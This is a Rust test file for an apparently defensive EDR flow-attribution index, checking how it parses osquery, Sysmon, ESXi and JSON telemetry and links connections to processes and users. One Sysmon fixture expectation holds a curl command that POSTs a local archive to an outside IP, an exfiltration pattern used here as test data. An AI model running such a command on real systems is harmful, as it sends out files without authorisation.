//! Fixture tests (tests/fixtures/edr/, one file per native format, each with malformed
//! lines), join-rule tests, index limits, and no-panic properties of every adapter.

use std::net::IpAddr;
use std::path::PathBuf;

use proptest::prelude::*;

use super::event::{parse_mac, TCP, UDP};
use super::index::FlowQuery;
use super::reader::RejectReason as R;
use super::*;
use crate::time::{Dur, Ts};

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/edr")
        .join(name)
}

fn load(idx: &EdrIndex, name: &str) -> EdrStats {
    let mut st = EdrStats::default();
    load_path(&fixture(name), idx, &mut st).unwrap();
    st
}

fn ts(s: &str) -> Ts {
    Ts::parse_rfc3339(s).unwrap()
}

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn s(x: &str) -> Option<String> {
    Some(x.to_owned())
}

/// Rejects as (reason, count, first line), for exact comparison.
fn rejects(st: &EdrStats) -> Vec<(R, u64, u64)> {
    st.rejected
        .iter()
        .map(|(r, n)| (*r, *n, st.first_rejected[r].line))
        .collect()
}

fn host(name: &str, platform: Option<&str>) -> Option<HostInfo> {
    Some(HostInfo {
        name: s(name),
        os: platform.map(|p| OsInfo { platform: s(p) }),
    })
}

fn updater_launchd() -> Option<LaunchdInfo> {
    Some(LaunchdInfo {
        label: s("com.x.updater"),
        plist: s("/Users/ann/Library/LaunchAgents/com.x.updater.plist"),
        kind: s("agent"),
    })
}

const UPDATER: &str = "/Users/ann/Library/Application Support/x/updater";

// ---- canonical ---------------------------------------------------------------------

#[test]
fn canonical_fixture_counts_events_and_each_bad_line_once() {
    let idx = EdrIndex::default();
    let st = load(&idx, "canonical.jsonl");
    assert_eq!(st.events[&Format::Canonical], 9);
    assert_eq!(
        rejects(&st),
        [
            (R::InvalidJson, 2, 10),
            (R::MissingField, 2, 11),
            (R::BadField, 0, 0),
            (R::BadTimestamp, 1, 12),
            (R::BadAddress, 1, 17),
            (R::BadMac, 1, 15),
            (R::BadPort, 1, 14),
            (R::UnknownCategory, 1, 13),
        ]
        .into_iter()
        .filter(|r| r.1 > 0)
        .collect::<Vec<_>>()
    );
    assert!(st.first_rejected[&R::MissingField]
        .detail
        .contains("@timestamp"));
}

#[test]
fn canonical_contract_example_joins_exactly() {
    let idx = EdrIndex::default();
    load(&idx, "canonical.jsonl");
    let a = idx
        .attribute(
            TCP,
            ip("10.1.0.17"),
            50123,
            ip("71.63.201.9"),
            18239,
            ts("2026-11-20T10:00:01.050Z"),
        )
        .unwrap();
    assert_eq!(
        a,
        Attribution {
            host: host("mac-17", Some("macos")),
            process: Some(ProcessInfo {
                pid: Some(4242),
                name: s("updater"),
                executable: s(UPDATER),
                command_line: None,
                parent: Some(ParentInfo {
                    pid: Some(1),
                    name: s("launchd"),
                    ..ParentInfo::default()
                }),
                code_signature: Some(CodeSignature {
                    signed: Some(false)
                }),
            }),
            user: Some(UserInfo { name: s("ann") }),
            launchd: updater_launchd(),
            vm: None,
        }
    );
    // Wrong transport, wrong port: no process (inventory still names the host).
    let other = idx.attribute(
        UDP,
        ip("10.1.0.17"),
        50123,
        ip("71.63.201.9"),
        18239,
        ts("2026-11-20T10:00:01Z"),
    );
    assert_eq!(
        other,
        Some(Attribution {
            host: host("mac-17", Some("macos")),
            ..Attribution::default()
        })
    );
}

#[test]
fn pid_reuse_does_not_inherit_identity() {
    let idx = EdrIndex::default();
    load(&idx, "canonical.jsonl");
    let at = |sport, t| {
        idx.attribute(TCP, ip("10.1.0.17"), sport, ip("203.0.113.5"), 443, ts(t))
            .unwrap()
    };
    // 10:04:00, pid 4242 is still the updater (started 09:59:58).
    let before = at(50299, "2026-11-20T10:04:00Z");
    assert_eq!(before.process.as_ref().unwrap().name, s("updater"));
    assert_eq!(before.user, Some(UserInfo { name: s("ann") }));
    assert_eq!(before.launchd, updater_launchd());
    // 10:05:02, pid 4242 belongs to a new process started at 10:05:00.
    let after = at(50300, "2026-11-20T10:05:02Z");
    assert_eq!(
        after,
        Attribution {
            host: host("mac-17", Some("macos")),
            process: Some(ProcessInfo {
                pid: Some(4242),
                name: s("evil"),
                executable: s("/private/tmp/evil"),
                ..ProcessInfo::default()
            }),
            user: Some(UserInfo { name: s("root") }),
            launchd: None,
            vm: None,
        }
    );
}

#[test]
fn fallback_without_source_port_uses_three_tuple_and_tolerance() {
    let idx = EdrIndex::default();
    load(&idx, "canonical.jsonl");
    let q = |t| {
        idx.attribute(UDP, ip("10.2.0.3"), 41234, ip("198.51.100.20"), 53, ts(t))
            .unwrap()
    };
    let a = q("2026-11-20T10:00:04Z");
    assert_eq!(
        a,
        Attribution {
            host: host("build-3", Some("linux")),
            process: Some(ProcessInfo {
                pid: Some(900),
                name: s("dig"),
                executable: s("/usr/bin/dig"),
                ..ProcessInfo::default()
            }),
            user: Some(UserInfo { name: s("root") }),
            ..Attribution::default()
        }
    );
    // 6 s after the event: outside ±5 s; only the inventory remains.
    let late = q("2026-11-20T10:00:09Z");
    assert_eq!(late.process, None);
    assert_eq!(late.host, host("build-3", Some("linux")));
}

/// Fleet context: who the feed saw at a destination, in a time range; which sources
/// run an agent at all.
#[test]
fn destination_users_and_coverage() {
    let idx = EdrIndex::default();
    load(&idx, "canonical.jsonl");
    let all = idx.destination_users(
        UDP,
        ip("198.51.100.20"),
        53,
        ts("2026-11-20T00:00:00Z"),
        ts("2026-11-21T00:00:00Z"),
    );
    assert!(!all.is_empty());
    assert!(all.iter().all(|(src, _)| *src == ip("10.2.0.3")));
    let dig = all
        .iter()
        .find_map(|(_, a)| a.process.as_ref()?.executable.clone());
    assert_eq!(dig.as_deref(), Some("/usr/bin/dig"));
    // outside the time range, another port, another transport: nobody
    let none = |tr, port, a: &str, b: &str| {
        idx.destination_users(tr, ip("198.51.100.20"), port, ts(a), ts(b))
            .is_empty()
    };
    assert!(none(
        UDP,
        53,
        "2026-11-19T00:00:00Z",
        "2026-11-19T23:00:00Z"
    ));
    assert!(none(
        UDP,
        54,
        "2026-11-20T00:00:00Z",
        "2026-11-21T00:00:00Z"
    ));
    assert!(none(
        TCP,
        53,
        "2026-11-20T00:00:00Z",
        "2026-11-21T00:00:00Z"
    ));
    assert!(idx.covers(ip("10.2.0.3")));
    assert!(!idx.covers(ip("10.2.0.99")));
}

#[test]
fn vm_addresses_and_macs_attribute_to_the_vm_and_its_esxi_host() {
    let idx = EdrIndex::default();
    load(&idx, "canonical.jsonl");
    let db7 = VmInfo {
        name: s("db-7"),
        mac: s("00:50:56:aa:bb:cc"),
        ip: vec!["10.3.1.7".into()],
        host: s("esx-01"),
    };
    let a = idx
        .attribute(
            TCP,
            ip("10.3.1.7"),
            40000,
            ip("10.9.0.1"),
            5432,
            ts("2026-11-20T10:00:00Z"),
        )
        .unwrap();
    assert_eq!(a.vm.as_ref(), Some(&db7));
    assert_eq!(a.platform(), Some("esxi"));
    assert_eq!(
        idx.vm_by_mac(parse_mac("00:50:56:aa:bb:cc").unwrap()),
        Some(db7.clone())
    );
    // By MAC when the address is unknown.
    let by_mac = idx
        .attribute_flow(&FlowQuery {
            transport: TCP,
            src: ip("10.3.9.9"),
            sport: 1,
            dst: ip("10.9.0.1"),
            dport: 2,
            first_ts: ts("2026-11-20T10:00:00Z"),
            src_mac: parse_mac("00:50:56:aa:bb:cc"),
        })
        .unwrap();
    assert_eq!(by_mac.vm, Some(db7));
    assert_eq!(
        idx.host_by_mac(parse_mac("a4:83:e7:01:02:04").unwrap()),
        host("mac-17", Some("macos"))
    );
}

#[test]
fn host_and_vm_fields_take_a_string_or_an_array() {
    let idx = EdrIndex::default();
    let mut st = EdrStats::default();
    let mut ad = Adapter::new(Format::Canonical);
    let lines = [
        r#"{"@timestamp":"2026-11-20T00:00:00Z","event":{"category":"host"},"host":{"name":"a","ip":"10.0.0.1","mac":"02:00:00:00:00:01"}}"#,
        r#"{"@timestamp":"2026-11-20T00:00:00Z","event":{"category":"host"},"host":{"name":"b","ip":["10.0.0.2","fd00::2"],"mac":["02:00:00:00:00:02"]}}"#,
        r#"{"@timestamp":"2026-11-20T00:00:00Z","event":{"category":"host"},"host":{"name":"esx"},"vm":{"name":"v1","mac":["02:00:00:00:00:03","02:00:00:00:00:04"],"ip":"10.0.0.3"}}"#,
        r#"{"@timestamp":"2026-11-20T00:00:00Z","event":{"category":"host"},"host":{"name":"esx"},"vm":{"name":"v2","mac":"02:00:00:00:00:05","ip":["10.0.0.5"]}}"#,
    ];
    for (i, l) in lines.iter().enumerate() {
        ingest_line(&mut ad, i as u64 + 1, l, &idx, &mut st);
    }
    assert_eq!(st.rejected_total(), 0, "{st:?}");
    let t = ts("2026-11-20T01:00:00Z");
    assert_eq!(idx.host_by_ip(ip("10.0.0.1"), t).unwrap().name, s("a"));
    assert_eq!(idx.host_by_ip(ip("fd00::2"), t).unwrap().name, s("b"));
    assert_eq!(
        idx.host_by_mac(parse_mac("02:00:00:00:00:01").unwrap())
            .unwrap()
            .name,
        s("a")
    );
    assert_eq!(idx.vm_by_ip(ip("10.0.0.3"), t).unwrap().name, s("v1"));
    assert_eq!(
        idx.vm_by_mac(parse_mac("02:00:00:00:00:04").unwrap())
            .unwrap()
            .name,
        s("v1")
    );
    assert_eq!(idx.vm_by_ip(ip("10.0.0.5"), t).unwrap().host, s("esx"));
}

// ---- join rules ----------------------------------------------------------------------

fn net_line(t: &str, sport: u16, name: &str) -> String {
    format!(
        r#"{{"@timestamp":"{t}","event":{{"category":"network"}},"host":{{"name":"h"}},"process":{{"pid":1,"name":"{name}"}},"source":{{"ip":"10.0.0.1","port":{sport}}},"destination":{{"ip":"192.0.2.1","port":443}},"network":{{"transport":"tcp"}}}}"#
    )
}

fn index_of(lines: &[String], cfg: IndexConfig) -> EdrIndex {
    let idx = EdrIndex::new(cfg);
    let mut st = EdrStats::default();
    let mut ad = Adapter::new(Format::Canonical);
    for (i, l) in lines.iter().enumerate() {
        ingest_line(&mut ad, i as u64 + 1, l, &idx, &mut st);
    }
    assert_eq!(st.rejected_total(), 0, "{st:?}");
    idx
}

fn name_at(idx: &EdrIndex, sport: u16, t: Ts) -> Option<String> {
    idx.attribute(TCP, ip("10.0.0.1"), sport, ip("192.0.2.1"), 443, t)
        .and_then(|a| a.process?.name)
}

#[test]
fn tolerance_edges_are_inclusive_and_configurable() {
    let t0 = ts("2026-11-20T10:00:00Z");
    let idx = index_of(
        &[net_line("2026-11-20T10:00:00Z", 1000, "p")],
        IndexConfig::default(),
    );
    let d5 = Dur::from_secs(5);
    assert_eq!(name_at(&idx, 1000, t0.saturating_sub(d5)), s("p"));
    assert_eq!(name_at(&idx, 1000, t0.saturating_add(d5)), s("p"));
    assert_eq!(name_at(&idx, 1000, Ts(t0.0 + d5.0 + 1)), None);
    assert_eq!(name_at(&idx, 1000, Ts(t0.0 - d5.0 - 1)), None);
    let wide = index_of(
        &[net_line("2026-11-20T10:00:00Z", 1000, "p")],
        IndexConfig {
            tolerance: Dur::from_secs(30),
            ..IndexConfig::default()
        },
    );
    assert_eq!(
        name_at(&wide, 1000, t0.saturating_add(Dur::from_secs(30))),
        s("p")
    );
}

#[test]
fn nearest_event_wins_and_ties_are_deterministic() {
    let idx = index_of(
        &[
            net_line("2026-11-20T10:00:00Z", 1000, "first"),
            net_line("2026-11-20T10:00:04Z", 1000, "second"),
            net_line("2026-11-20T10:00:10Z", 1001, "same-a"),
            net_line("2026-11-20T10:00:10Z", 1001, "same-b"),
        ],
        IndexConfig::default(),
    );
    assert_eq!(name_at(&idx, 1000, ts("2026-11-20T10:00:03Z")), s("second"));
    assert_eq!(name_at(&idx, 1000, ts("2026-11-20T10:00:01Z")), s("first"));
    // Equidistant: the earlier event.
    assert_eq!(name_at(&idx, 1000, ts("2026-11-20T10:00:02Z")), s("first"));
    // Same time: the one read first.
    assert_eq!(name_at(&idx, 1001, ts("2026-11-20T10:00:10Z")), s("same-a"));
}

#[test]
fn exact_join_beats_fallback() {
    let mut lines = vec![net_line("2026-11-20T10:00:00Z", 1000, "exact")];
    lines.push(
        r#"{"@timestamp":"2026-11-20T10:00:01Z","event":{"category":"network"},"process":{"name":"loose"},"source":{"ip":"10.0.0.1"},"destination":{"ip":"192.0.2.1","port":443},"network":{"transport":"tcp"}}"#.into(),
    );
    let idx = index_of(&lines, IndexConfig::default());
    assert_eq!(name_at(&idx, 1000, ts("2026-11-20T10:00:01Z")), s("exact"));
    assert_eq!(name_at(&idx, 2000, ts("2026-11-20T10:00:01Z")), s("loose"));
}

// ---- limits --------------------------------------------------------------------------

#[test]
fn per_key_cap_age_and_total_cap_evict_and_count() {
    let cfg = IndexConfig {
        max_per_key: 2,
        max_age: Some(Dur::from_secs(60)),
        max_network_events: 10,
        ..IndexConfig::default()
    };
    let idx = index_of(
        &[
            net_line("2026-11-20T10:00:00Z", 1000, "a"),
            net_line("2026-11-20T10:00:01Z", 1000, "b"),
            net_line("2026-11-20T10:00:02Z", 1000, "c"),
        ],
        cfg,
    );
    let st = idx.stats();
    assert_eq!((st.network_events, st.evicted_per_key), (2, 1));
    assert_eq!(name_at(&idx, 1000, ts("2026-11-20T10:00:00Z")), s("b"));

    // An event two minutes later ages the first key out.
    let idx = index_of(
        &[
            net_line("2026-11-20T10:00:00Z", 1000, "old"),
            net_line("2026-11-20T10:02:00Z", 1001, "new"),
        ],
        cfg,
    );
    idx.prune();
    assert_eq!(idx.stats().evicted_by_age, 1);
    assert_eq!(name_at(&idx, 1000, ts("2026-11-20T10:00:00Z")), None);

    // Eleven keys with a cap of ten: the oldest go, down to nine.
    let lines: Vec<String> = (0..11)
        .map(|i| net_line(&format!("2026-11-20T10:00:{i:02}Z"), 2000 + i, "k"))
        .collect();
    let idx = index_of(&lines, cfg);
    let st = idx.stats();
    assert_eq!((st.network_events, st.evicted_by_cap), (9, 2));
    assert_eq!(name_at(&idx, 2000, ts("2026-11-20T10:00:00Z")), None);
    assert_eq!(name_at(&idx, 2010, ts("2026-11-20T10:00:10Z")), s("k"));
}

#[test]
fn readers_and_a_writer_run_concurrently() {
    let idx = std::sync::Arc::new(EdrIndex::new(IndexConfig {
        max_network_events: 500,
        ..IndexConfig::default()
    }));
    let w = {
        let idx = idx.clone();
        std::thread::spawn(move || {
            let mut ad = Adapter::new(Format::Canonical);
            let mut st = EdrStats::default();
            for i in 0..3000u32 {
                let l = net_line("2026-11-20T10:00:00Z", (i % 60000) as u16 + 1, "w");
                ingest_line(&mut ad, i as u64, &l, &idx, &mut st);
            }
        })
    };
    let readers: Vec<_> = (0..2)
        .map(|_| {
            let idx = idx.clone();
            std::thread::spawn(move || {
                for i in 0..3000u16 {
                    let _ = name_at(&idx, i + 1, ts("2026-11-20T10:00:00Z"));
                }
            })
        })
        .collect();
    w.join().unwrap();
    for r in readers {
        r.join().unwrap();
    }
    assert!(idx.stats().network_events <= 500);
}

// ---- osquery -------------------------------------------------------------------------

/// An index with build-3's inventory (for the Linux row without local address).
fn osquery_index() -> EdrIndex {
    let idx = EdrIndex::default();
    let mut st = EdrStats::default();
    ingest_line(
        &mut Adapter::new(Format::Canonical),
        1,
        r#"{"@timestamp":"2026-11-20T00:00:00Z","event":{"category":"host"},"host":{"name":"build-3","ip":["10.2.0.3"],"os":{"platform":"linux"}}}"#,
        &idx,
        &mut st,
    );
    idx
}

#[test]
fn osquery_event_form_joins_processes_users_and_launchd() {
    let idx = osquery_index();
    let st = load(&idx, "osquery.results.log");
    assert_eq!(st.events[&Format::Osquery], 10);
    assert_eq!(st.ignored, 1); // the bind
    assert_eq!(
        rejects(&st),
        [
            (R::InvalidJson, 1, 12),
            (R::MissingField, 1, 13),
            (R::BadTimestamp, 1, 15),
            (R::BadAddress, 1, 14),
        ]
    );
    let a = idx
        .attribute(
            TCP,
            ip("10.1.0.17"),
            50123,
            ip("71.63.201.9"),
            18239,
            ts("2026-11-20T10:00:01.050Z"),
        )
        .unwrap();
    assert_eq!(
        a,
        Attribution {
            host: host("mac-17", None),
            process: Some(ProcessInfo {
                pid: Some(4242),
                name: s("updater"),
                executable: s(UPDATER),
                command_line: s(&format!("{UPDATER} --interval 600")),
                parent: Some(ParentInfo {
                    pid: Some(1),
                    ..ParentInfo::default()
                }),
                code_signature: None,
            }),
            user: Some(UserInfo { name: s("ann") }),
            launchd: updater_launchd(),
            vm: None,
        }
    );
}

#[test]
fn osquery_socket_time_is_the_row_time_not_unix_time() {
    let idx = osquery_index();
    load(&idx, "osquery.results.log");
    // The query ran at 10:01:00 (unixTime); the connect happened at 10:00:01 (time).
    let at_query_time = idx.attribute(
        TCP,
        ip("10.1.0.17"),
        50123,
        ip("71.63.201.9"),
        18239,
        ts("2026-11-20T10:00:58Z"),
    );
    assert_eq!(at_query_time.and_then(|a| a.process), None);
}

#[test]
fn osquery_pid_reuse_and_exit() {
    let idx = osquery_index();
    load(&idx, "osquery.results.log");
    let at = |sport, t| {
        idx.attribute(TCP, ip("10.1.0.17"), sport, ip("203.0.113.5"), 443, ts(t))
            .unwrap()
    };
    // 10:04:10: the updater exited at 10:03:20 and the next pid owner is unknown.
    let gap = at(50201, "2026-11-20T10:04:10Z");
    assert_eq!(
        gap.process,
        Some(ProcessInfo {
            pid: Some(4242),
            ..ProcessInfo::default()
        })
    );
    assert_eq!((gap.user, gap.launchd), (None, None));
    // 10:05:05: the new owner of pid 4242.
    let evil = at(50202, "2026-11-20T10:05:05Z").process.unwrap();
    assert_eq!(
        (evil.name, evil.executable),
        (s("evil"), s("/private/tmp/evil"))
    );
}

#[test]
fn osquery_linux_connect_without_local_address_uses_inventory_and_fallback() {
    let idx = osquery_index();
    load(&idx, "osquery.results.log");
    let a = idx
        .attribute(
            UDP,
            ip("10.2.0.3"),
            5555,
            ip("198.51.100.21"),
            53,
            ts("2026-11-20T10:00:11Z"),
        )
        .unwrap();
    assert_eq!(a.host, host("build-3", Some("linux")));
    assert_eq!(a.process.unwrap().executable, s("/usr/bin/dig"));

    // Without the inventory the row cannot be placed: counted, not fatal.
    let bare = EdrIndex::default();
    let st = load(&bare, "osquery.results.log");
    assert_eq!(st.rejected[&R::NoSourceAddress], 1);
    assert_eq!(st.first_rejected[&R::NoSourceAddress].line, 11);
}

#[test]
fn osquery_batched_and_snapshot_forms() {
    let idx = EdrIndex::default();
    let st = load(&idx, "osquery.batched.log");
    assert_eq!(st.events[&Format::Osquery], 7);
    assert_eq!(st.ignored, 2); // listener, unix socket
    assert_eq!(rejects(&st), [(R::InvalidJson, 1, 6), (R::BadField, 3, 4)]);
    let a = idx
        .attribute(
            TCP,
            ip("10.2.0.8"),
            41000,
            ip("198.51.100.7"),
            8443,
            ts("2026-11-20T10:00:30Z"),
        )
        .unwrap();
    assert_eq!(
        a,
        Attribution {
            host: host("web-2", None),
            process: Some(ProcessInfo {
                pid: Some(888),
                name: s("python3"),
                executable: s("/usr/bin/python3.11"),
                command_line: s("python3 /opt/sync/push.py"),
                parent: Some(ParentInfo {
                    pid: Some(1),
                    ..ParentInfo::default()
                }),
                code_signature: None,
            }),
            user: Some(UserInfo { name: s("deploy") }),
            ..Attribution::default()
        }
    );
    // A snapshot does not explain a flow that started after it (beyond tolerance).
    let later = idx.attribute(
        TCP,
        ip("10.2.0.8"),
        41000,
        ip("198.51.100.7"),
        8443,
        ts("2026-11-20T10:02:00Z"),
    );
    assert_eq!(later, None);
}

// ---- Sysmon --------------------------------------------------------------------------

#[test]
fn sysmon_network_joins_process_create_by_guid() {
    let idx = EdrIndex::default();
    let st = load(&idx, "sysmon.syslog");
    assert_eq!(st.events[&Format::Sysmon], 3);
    assert_eq!(st.ignored, 2); // systemd line, Event 5
    assert_eq!(
        rejects(&st),
        [
            (R::MalformedXml, 2, 6),
            (R::BadTimestamp, 1, 8),
            (R::BadPort, 1, 7),
            (R::UnknownTransport, 1, 9),
        ]
    );
    let a = idx
        .attribute(
            TCP,
            ip("10.2.0.5"),
            40112,
            ip("71.63.201.9"),
            443,
            ts("2026-11-20T10:00:01.200Z"),
        )
        .unwrap();
    assert_eq!(
        a,
        Attribution {
            host: host("web-1", Some("linux")),
            process: Some(ProcessInfo {
                pid: Some(3117),
                name: s("curl"),
                executable: s("/usr/bin/curl"),
                command_line: s(
                    "curl -s -X POST --data-binary @/tmp/x.tgz https://71.63.201.9/u?a=1&b=2"
                ),
                parent: Some(ParentInfo {
                    pid: Some(3001),
                    name: s("bash"),
                    executable: s("/usr/bin/bash"),
                    command_line: s("-bash"),
                }),
                code_signature: None,
            }),
            user: Some(UserInfo { name: s("deploy") }),
            ..Attribution::default()
        }
    );
    let v6 = idx
        .attribute(
            UDP,
            ip("fd00::5"),
            53124,
            ip("fd00::53"),
            53,
            ts("2026-11-20T10:00:02.500Z"),
        )
        .unwrap();
    assert_eq!(v6.process.unwrap().name, s("systemd-resolved"));
}

// ---- ESXi ----------------------------------------------------------------------------

#[test]
fn esxi_vmx_and_hostd_lines_build_the_vm_inventory() {
    let idx = EdrIndex::default();
    let vmx = load(&idx, "vmware.log");
    assert_eq!(vmx.events[&Format::Esxi], 2);
    assert_eq!(rejects(&vmx), [(R::BadTimestamp, 2, 9), (R::BadMac, 1, 7)]);
    let vmx8 = load(&idx, "vmware-esxi8.log");
    assert_eq!(vmx8.events[&Format::Esxi], 1);
    assert_eq!(rejects(&vmx8), [(R::BadMac, 1, 4)]);
    let hostd = load(&idx, "hostd.log");
    assert_eq!(hostd.events[&Format::Esxi], 3);
    assert_eq!(
        rejects(&hostd),
        [
            (R::MissingField, 1, 6),
            (R::BadTimestamp, 1, 8),
            (R::BadAddress, 1, 7)
        ]
    );

    let t = ts("2026-11-20T10:00:00Z");
    let db7 = idx.vm_by_ip(ip("10.3.1.7"), t).unwrap();
    assert_eq!(
        db7,
        VmInfo {
            name: s("db-7"),
            mac: s("00:50:56:aa:bb:cc"),
            ip: vec!["10.3.1.7".into()],
            host: s("esx-01"),
        }
    );
    assert_eq!(
        idx.vm_by_mac(parse_mac("00:50:56:01:02:03").unwrap()),
        Some(db7)
    );
    let app3 = idx
        .vm_by_mac(parse_mac("00:50:56:11:22:33").unwrap())
        .unwrap();
    assert_eq!(app3.name, s("app-3"));
    assert_eq!(app3.ip, ["10.3.1.9", "fe80::250:56ff:fe11:2233"]);
    assert_eq!(idx.vm_by_ip(ip("10.3.1.11"), t).unwrap().name, s("web-9"));
    let a = idx
        .attribute(TCP, ip("10.3.1.9"), 1, ip("10.0.0.1"), 2, t)
        .unwrap();
    assert_eq!(a.vm.unwrap().name, s("app-3"));
    assert_eq!(a.host, None);
}

// ---- sniffing and robustness --------------------------------------------------------

#[test]
fn each_fixture_is_sniffed_as_its_format() {
    for (file, f) in [
        ("canonical.jsonl", Format::Canonical),
        ("osquery.results.log", Format::Osquery),
        ("osquery.batched.log", Format::Osquery),
        ("sysmon.syslog", Format::Sysmon),
        ("vmware.log", Format::Esxi),
        ("vmware-esxi8.log", Format::Esxi),
        ("hostd.log", Format::Esxi),
    ] {
        let text = std::fs::read_to_string(fixture(file)).unwrap();
        assert_eq!(Format::sniff(text.lines()), Some(f), "{file}");
    }
    assert_eq!(Format::sniff(["", "hello", "{\"a\":1}"]), None);
}

#[test]
fn unknown_format_lines_are_counted_not_fatal() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("x.log");
    std::fs::write(&p, "hello\nworld\n").unwrap();
    let idx = EdrIndex::default();
    let mut st = EdrStats::default();
    load_path(&p, &idx, &mut st).unwrap();
    assert_eq!(rejects(&st), [(R::UnknownFormat, 2, 1)]);
}

/// Every line of every fixture, cut at every char boundary.
fn fixture_prefixes() -> Vec<(Format, String)> {
    let mut out = Vec::new();
    for (file, f) in [
        ("canonical.jsonl", Format::Canonical),
        ("osquery.results.log", Format::Osquery),
        ("osquery.batched.log", Format::Osquery),
        ("sysmon.syslog", Format::Sysmon),
        ("vmware.log", Format::Esxi),
        ("hostd.log", Format::Esxi),
    ] {
        for line in std::fs::read_to_string(fixture(file)).unwrap().lines() {
            for (i, _) in line.char_indices().step_by(7) {
                out.push((f, line[..i].to_owned()));
            }
        }
    }
    out
}

#[test]
fn truncated_fixture_lines_never_panic() {
    let idx = EdrIndex::default();
    let mut st = EdrStats::default();
    for (f, l) in fixture_prefixes() {
        ingest_line(&mut Adapter::new(f), 1, &l, &idx, &mut st);
    }
    assert!(st.rejected_total() > 0);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn arbitrary_lines_never_panic(line in "\\PC{0,300}", fi in 0usize..4) {
        let idx = EdrIndex::default();
        let mut st = EdrStats::default();
        ingest_line(&mut Adapter::new(Format::ALL[fi]), 1, &line, &idx, &mut st);
        ingest_line(&mut Adapter::detecting(), 1, &line, &idx, &mut st);
    }

    #[test]
    fn format_shaped_noise_never_panics(
        parts in proptest::collection::vec(prop_oneof![
            Just("{".to_owned()), Just("}".to_owned()), Just("\"".to_owned()), Just(":".to_owned()),
            Just(",".to_owned()), Just("[".to_owned()), Just("]".to_owned()),
            Just("\"columns\"".to_owned()), Just("\"diffResults\"".to_owned()), Just("\"snapshot\"".to_owned()),
            Just("\"@timestamp\"".to_owned()), Just("\"event\"".to_owned()), Just("\"vm\"".to_owned()),
            Just("<Event>".to_owned()), Just("</Event>".to_owned()), Just("<EventID>3</EventID>".to_owned()),
            Just("<EventData>".to_owned()), Just("<Data Name=\"SourceIp\">".to_owned()), Just("</Data>".to_owned()),
            Just("2026-11-20T09:00:00.1Z".to_owned()), Just("| vmx| ".to_owned()), Just("hostd[1] ".to_owned()),
            Just("displayName = \"".to_owned()), Just("ethernet0.generatedAddress = \"".to_owned()),
            Just("Guest IP ".to_owned()), Just("10.0.0.1".to_owned()), Just("00:50:56:aa:bb:cc".to_owned()),
            "[ -~]{0,8}",
        ], 0..24),
        fi in 0usize..4,
    ) {
        let line: String = parts.concat();
        let idx = EdrIndex::default();
        let mut st = EdrStats::default();
        ingest_line(&mut Adapter::new(Format::ALL[fi]), 1, &line, &idx, &mut st);
    }
}

#[test]
fn followed_feed_is_ingested_line_by_line() {
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::sync::Arc;
    use std::time::Duration;

    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("edr.jsonl");
    std::fs::write(
        &p,
        format!("{}\n", net_line("2026-11-20T10:00:00Z", 1000, "live")),
    )
    .unwrap();
    let idx = Arc::new(EdrIndex::default());
    let stop = Arc::new(AtomicBool::new(false));
    let h = {
        let (idx, stop, p) = (idx.clone(), stop.clone(), p.clone());
        std::thread::spawn(move || {
            let mut st = EdrStats::default();
            let mut ad = Adapter::detecting();
            let mut generation = 0;
            follow(&p, Duration::from_millis(5), &stop, |l| {
                if l.generation != generation {
                    generation = l.generation;
                    ad = Adapter::detecting(); // a new file may be in another format
                }
                ingest_followed(&mut ad, &l, &idx, &mut st);
            })
            .unwrap();
            st
        })
    };
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while name_at(&idx, 1000, ts("2026-11-20T10:00:00Z")).is_none()
        && std::time::Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(5));
    }
    stop.store(true, Ordering::Relaxed);
    let st = h.join().unwrap();
    assert_eq!(name_at(&idx, 1000, ts("2026-11-20T10:00:00Z")), s("live"));
    assert_eq!(st.events[&Format::Canonical], 1);
}
